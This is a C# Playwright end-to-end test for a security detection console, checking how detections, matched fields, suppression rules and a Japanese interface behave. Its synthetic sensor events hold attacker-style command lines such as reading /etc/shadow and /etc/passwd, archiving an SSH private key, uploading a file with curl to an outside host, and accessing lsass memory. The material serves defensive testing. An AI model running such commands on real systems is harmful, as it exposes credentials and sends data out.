using System.Net.Http.Json;
using System.Text.Json;
using System.Text.Json.Nodes;
using Microsoft.Playwright;
using static Hikeshi.EndToEnd.Browser.AtPage;

namespace Hikeshi.EndToEnd.Browser;

/// <summary>An analyst at the console of a node to which a sensor sends events.</summary>
[Collection<ThisNetwork>]
public sealed class DetectionsTests
{
    private const string ShadowRead = "Password hashes or private keys are read from a shell";
    private const string HiddenProgram = "A program runs from a place that any process may write to";

    [Fact]
    public async Task Console_Detections_ShowsWhatMatchedAndHoldsBackUntilATime()
    {
        await using var chromium = await Chromium.StartAsync();
        var page = chromium.Page;
        await using var lone = await LoneNode.StartAsync(isHub: false);
        using var sensor = await lone.ClientAsync("sensor");
        Assert.True(await SightedAsync(sensor, [.. Morning()]) >= 6);
        var link = await lone.Node.Client.PostAsync("api/v1/session/link", "", TestContext.Current.CancellationToken);

        await page.GotoAsync(link.GetProperty("url").GetString()!);
        await page.Locator("[data-testid=page][data-page=detections]").ClickAsync();
        await Case(page, ShadowRead, "pay-1").WaitForAsync();

        // An event of Windows as Winlogbeat nests it.
        await OpenAsync(page, "Memory of the Windows logon process is read", "desk-7");
        Assert.Equal(["\"C:\\\\Windows\\\\System32\\\\lsass.exe\"", "\"0x1410\""], await Marked(page));
        await ShotAsync(page, "detections.windows.png", published: false);

        // With the keyboard alone: to the second case and into it.
        await page.GetByTestId("case").First.FocusAsync();
        await page.Keyboard.PressAsync("ArrowDown");
        await page.Keyboard.PressAsync("Enter");
        await page.GetByTestId("triage").WaitForAsync();
        Assert.Equal("true", await page.GetByTestId("case").Nth(1).GetAttributeAsync("aria-pressed"));

        // What matched is marked in the event as it was received.
        await OpenAsync(page, ShadowRead, "pay-1");
        Assert.Equal(["\"/usr/bin/cat\"", "\"cat /etc/shadow\"", "\"/bin/bash\""], await Marked(page));
        Assert.Equal(2, await page.GetByTestId("related").GetByRole(AriaRole.Button).CountAsync());
        await NothingInTheWayAsync(page);
        await ShotAsync(page, "detections.png", published: true);
        await page.GetByTestId("case-why").First.ClickAsync();
        await page.Locator("[data-testid=why-node][data-kind^='detection.event-retained/']").WaitForAsync();
        await page.Keyboard.PressAsync("Escape");
        await page.GetByTestId("why-drawer").WaitForAsync(Gone);

        // What is seen now is on the page without being asked for.
        await SightedAsync(sensor, Started("/tmp/.x11", "/tmp/.x11 -d", "web-9", "www-data", "/bin/sh"));
        await OpenAsync(page, HiddenProgram, "web-9");
        Assert.Contains("\"/tmp/.x11\"", await Marked(page));

        // It is no news there: held back for a week, and said exactly.
        await page.GetByTestId("suppress").ClickAsync();
        await Condition(page, "Computer").GetByRole(AriaRole.Textbox).FillAsync("web-*");
        await page.GetByTestId("suppress-submit").ClickAsync();
        await page.GetByText("Say why.").WaitForAsync();
        await page.GetByTestId("suppress-reason").FillAsync("Deployment test until the migration is over");
        await page.GetByTestId("suppress-term").GetByText("7 days").ClickAsync();
        Assert.Contains("Computer = web-* and Image = /tmp/.x11 are counted", await page.GetByTestId("suppress-preview").InnerTextAsync(), StringComparison.Ordinal);
        await ShotAsync(page, "detections.suppress.png", published: false);
        await NothingInTheWayAsync(page);
        await page.GetByTestId("suppress-submit").ClickAsync();
        await page.GetByTestId("suppress-dialog").WaitForAsync(Gone);
        await page.GetByTestId("suppression").WaitForAsync();
        Assert.Equal("suppress", await page.EvaluateAsync<string>("document.activeElement.dataset.testid"));

        // The same again is counted, and nothing new is there; another place is seen as before.
        Assert.Equal(0, await SightedAsync(sensor, Started("/tmp/.x11", "/tmp/.x11 -d", "web-3", "www-data", "/bin/sh")));
        Assert.Equal(1, await SightedAsync(sensor, Started("/tmp/.x11", "/tmp/.x11 -d", "db-2", "postgres", "/bin/sh")));
        await Case(page, HiddenProgram, "db-2").WaitForAsync();
        Assert.Equal(0, await Case(page, HiddenProgram, "web-3").CountAsync());
        await Until.HoldsAsync(async () => await page.GetByTestId("held-count").InnerTextAsync() == "1", "what was held back is counted");

        // In Japanese: judged, listed, ended.
        await page.Locator("[data-testid=language-switch] [data-language=ja]").ClickAsync();
        await OpenAsync(page, ShadowRead, "pay-1");
        await page.GetByText("攻撃手法（ATT&CK）").WaitForAsync();
        await ShotAsync(page, "detections.ja.png", published: false);
        await page.GetByTestId("triage-note").FillAsync("夜間バックアップの手順書どおり");
        await page.Locator("[data-testid=judge][data-verdict=false-positive]").ClickAsync();
        await page.GetByText("記録しました：誤検知").WaitForAsync();
        Assert.Contains("誤検知", await Case(page, ShadowRead, "pay-1").InnerTextAsync(), StringComparison.Ordinal);
        await page.GetByTestId("appearance-switch").ClickAsync();
        await NothingInTheWayAsync(page);
        await ShotAsync(page, "detections.dark.ja.png", published: false);
        await page.GetByTestId("held-back-open").ClickAsync();
        await page.GetByText("Computer = web-*").WaitForAsync();
        await ShotAsync(page, "detections.held-back.ja.png", published: false);
        await page.GetByTestId("suppression-end").ClickAsync();
        await page.GetByText("抑制はありません。").WaitForAsync();
        Assert.Equal(1, await SightedAsync(sensor, Started("/tmp/.x11", "/tmp/.x11 -d", "web-3", "www-data", "/bin/sh")));

        await page.SetViewportSizeAsync(390, 844);
        await page.GetByText("一覧に戻る").ClickAsync();
        await FitsAsync(page);
        await ShotAsync(page, "detections.list.phone.ja.png", published: false);
        await OpenAsync(page, HiddenProgram, "web-3");
        await FitsAsync(page);
        await ShotAsync(page, "detections.phone.ja.png", published: false);
        Assert.DoesNotContain(chromium.Complaints, complaint => !IsTheStreamLeftBehind(complaint));
    }

    private static LocatorWaitForOptions Gone => new() { State = WaitForSelectorState.Hidden };

    private static ILocator Case(IPage page, string title, string host) =>
        page.GetByTestId("case").Filter(new LocatorFilterOptions { HasText = title }).Filter(new LocatorFilterOptions { HasText = host });

    private static async Task OpenAsync(IPage page, string title, string host)
    {
        await Case(page, title, host).ClickAsync();
        await page.GetByTestId("case-detail").Filter(new LocatorFilterOptions { HasText = title }).GetByTestId("raw-event").Filter(new LocatorFilterOptions { HasText = host }).First.WaitForAsync();
    }

    private static ILocator Condition(IPage page, string field) => page.Locator($"[data-testid=condition][data-field='{field}']");

    private static Task<IReadOnlyList<string>> Marked(IPage page) => page.GetByTestId("raw-event").First.Locator("mark").AllInnerTextsAsync();

    /// <summary>Each page follows a stream of its own, and lets go of it, and of what it was reading, when it is left.</summary>
    private static bool IsTheStreamLeftBehind(string complaint) =>
        complaint.Contains("/api/v1/", StringComparison.Ordinal) && complaint.Contains("ERR_ABORTED", StringComparison.Ordinal);

    private static async Task<int> SightedAsync(HttpClient sensor, params string[] events)
    {
        using var answer = await sensor.PostAsync("api/v1/events", new StringContent(string.Join('\n', events)), TestContext.Current.CancellationToken);
        answer.EnsureSuccessStatusCode();
        return (await answer.Content.ReadFromJsonAsync<JsonElement>(TestContext.Current.CancellationToken)).GetProperty("sighted").GetInt32();
    }

    private static IEnumerable<string> Morning() =>
    [
        Started("/bin/bash", "bash -c 'id; uname -a; cat /etc/passwd'", "pay-1", "batch", "/usr/sbin/sshd"),
        Started("/usr/bin/cat", "cat /etc/shadow", "pay-1", "batch", "/bin/bash"),
        Started("/usr/bin/curl", "curl -T /tmp/day.tgz https://files.example.net/", "pay-1", "batch", "/bin/bash"),
        Started("/usr/bin/tar", "tar cf - /srv/ops/.ssh/id_ed25519", "jump-2", "ops", "/bin/sh"),
        Started("/bin/sh", "sh -c /opt/yagura/update", "core-3", "yagura", "/opt/yagura/yagura-agent"),
        new JsonObject
        {
            ["@timestamp"] = "2026-04-01T00:12:09.118Z",
            ["host"] = new JsonObject { ["name"] = "desk-7" },
            ["winlog"] = new JsonObject
            {
                ["channel"] = "Microsoft-Windows-Sysmon/Operational",
                ["provider_name"] = "Microsoft-Windows-Sysmon",
                ["event_id"] = "10",
                ["computer_name"] = "desk-7",
                ["event_data"] = new JsonObject { ["SourceImage"] = @"C:\Users\Public\p.exe", ["TargetImage"] = @"C:\Windows\System32\lsass.exe", ["GrantedAccess"] = "0x1410", ["SourceUser"] = @"KITAMORI\m.sato" },
            },
        }.ToJsonString(),
    ];

    private static string Started(string image, string command, string host, string user, string parent) => new JsonObject
    {
        ["product"] = "linux",
        ["category"] = "process_creation",
        ["Computer"] = host,
        ["User"] = user,
        ["Image"] = image,
        ["CommandLine"] = command,
        ["ParentImage"] = parent,
        ["ProcessId"] = 4711,
    }.ToJsonString();
}
